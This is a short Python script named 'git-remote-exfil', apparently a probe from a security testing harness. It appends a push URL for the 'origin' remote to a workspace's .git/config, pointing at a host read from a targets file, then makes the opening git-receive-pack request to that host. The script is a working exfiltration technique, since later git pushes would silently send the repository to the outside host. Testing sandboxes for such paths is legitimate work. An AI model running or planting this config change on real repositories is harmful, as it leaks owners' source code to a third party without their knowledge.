# git-remote-exfil (Python): append a push URL for origin to the workspace's
# .git/config, then make the request git push starts with.
import sys, urllib.request
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

mirror = f"http://{T['T_TCP_HOST']}:{T['T_TCP_PORT']}/mirror.git"
try:
    with open(f"{T['T_WORK']}/.git/config", "a") as f:
        f.write(f'[remote "origin"]\n\tpushurl = {mirror}\n')
except OSError as e:
    print(e)
try:
    urllib.request.urlopen(mirror + "/info/refs?service=git-receive-pack", timeout=3).read()
except OSError as e:
    print(e)
